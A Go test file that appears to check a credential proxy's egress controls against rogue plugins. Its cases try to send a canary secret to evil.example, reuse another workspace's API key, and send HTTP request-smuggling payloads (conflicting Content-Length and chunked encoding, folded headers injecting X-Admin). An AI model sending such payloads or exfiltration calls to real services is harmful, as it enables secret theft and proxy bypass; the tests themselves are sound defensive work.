// SPDX-License-Identifier: Apache-2.0

//go:build linux

package hostile_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"time"
)

// theirs is the service of another workspace.
const theirs = "https://theirs.example"

// said makes an attempt of a request, byte for byte, that must not come to the
// plugin's own service.
func said(text string) func(w *world) (bool, error) {
	return func(w *world) (bool, error) {
		var came atomic.Bool
		w.serve(api, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body); came.Store(true) }))
		d := w.den("rogue")
		got, err := d.got(d.online(api), "rogue", "egress:raw", text)
		return came.Load(), refusal(got, err)
	}
}

// refusal is what the host told the plugin, if it refused.
func refusal(got string, err error) error {
	if err == nil && strings.Contains(got, "Credhost-Egress: no") {
		err = errors.New(got)
	}
	return err
}

// goesElsewhere makes an attempt to bring the secret to the attacker, with what
// the program does in one call and says of it in the next.
func goesElsewhere(do string) func(w *world) (bool, error) {
	return func(w *world) (bool, error) {
		d := w.den("rogue")
		if _, err := d.got(d.online(evil), "rogue", "egress:"+do, evil+"/gather"); err != nil {
			return false, err
		}
		_, err := d.got(d.online(api), "rogue", "egress:report", "")
		return w.evilGot(canary), err
	}
}

// The attempts of plugins to reach what is not theirs.
var pluginsThatReach = attempts{
	"an origin of its own choice": {
		says: "https://evil.example",
		run: func(w *world) (bool, error) {
			d := w.den("rogue")
			_, err := d.got(d.online(api), "rogue", "egress:fetch", evil+"/gather")
			return w.evilGot(canary), err
		},
	},
	"a call that it invents": {
		says: "no invented ID is a call's",
		run: func(w *world) (bool, error) {
			d, how := w.den("rogue"), "egress:invent"
			if w.easy {
				how = "egress:fetch"
			}
			_, err := d.got(d.online(evil), "rogue", how, evil+"/gather")
			return w.evilGot(canary), err
		},
	},
	"a call that is over":       {says: "belongs to no live call", run: goesElsewhere("later")},
	"a connection that is kept": {says: "the connection is closed", run: goesElsewhere("keep")},
	"a call of another workspace": {
		says: "belongs to no live call",
		run: func(w *world) (bool, error) {
			id := make(chan string, 1)
			came := make(chan bool, 1)
			w.serve(theirs, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/confess" {
					id <- r.Header.Get("X-Api-Key")
				} else {
					came <- r.Header.Get("X-Api-Key") == canary
				}
			}))
			d := w.den("rogue")
			ctx, cancel := context.WithTimeout(d.online(theirs), 10*time.Second)
			defer cancel()
			victim := make(chan error, 1)
			go func() { _, err := d.gotFor(ctx, "victim", "rogue", "egress:confess", theirs+"/confess"); victim <- err }()
			_, err := d.got(d.online(api), "rogue", "egress:borrow", <-id+" "+theirs+"/steal")
			cancel()
			<-victim
			return len(came) > 0 && <-came, err
		},
	},
	"a secret carried to another workspace": {
		run: func(w *world) (bool, error) {
			d := w.den("rogue")
			if _, err := d.gotFor(w.ctx, "victim", "rogue", "act:remember", ""); err != nil {
				return false, err
			}
			_, err := d.got(d.online(evil), "rogue", "egress:carry", evil+"/gather")
			return w.evilGot(canary), err
		},
	},
	"a request for another host": {
		says: "is for another host than its connection",
		run:  said(`GET / HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`),
	},
	"a request of two lengths": {
		says: "says more than once how long it is",
		run:  said(`POST / HTTP/1.1\r\nHost: api.good.example\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n`),
	},
	"a request of bare line feeds": {
		says: "has a line that does not end in CR LF",
		run:  said(`GET / HTTP/1.1\nHost: api.good.example\nConnection: close\n\n`),
	},
	"a header that is folded": {
		says: "has a header that is not one",
		run:  said(`GET / HTTP/1.1\r\nHost: api.good.example\r\nX-A: b\r\n X-Admin: yes\r\nConnection: close\r\n\r\n`),
	},
	"connections without number": {
		run: func(w *world) (bool, error) {
			w.serve(api, http.NotFoundHandler())
			d := w.den("rogue")
			got, err := d.got(d.online(api), "rogue", "egress:many", "100")
			if err == nil && got != "100" && got != "32" {
				err = errors.New("it got " + got + " connections")
			}
			return got == "100", err
		},
	},
	"an upload without end": {
		says: "has a body of more than 1048576 bytes",
		run: func(w *world) (bool, error) {
			var received atomic.Int64
			w.serve(api, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
				n, _ := io.Copy(io.Discard, r.Body)
				received.Store(n)
			}))
			d := w.den("rogue")
			got, err := d.got(d.online(api), "rogue", "egress:upload", "3000000")
			return received.Load() >= 3_000_000, refusal(got, err)
		},
	},
	"traffic without end": {
		says: "the call has sent and received all that it may",
		run: func(w *world) (bool, error) {
			var asked atomic.Int64
			w.serve(api, http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
				asked.Add(1)
				rw.Write(make([]byte, 500_000))
			}))
			d := w.den("rogue")
			_, err := d.got(d.online(api), "rogue", "egress:again", "20")
			return asked.Load() == 20, err
		},
	},
}
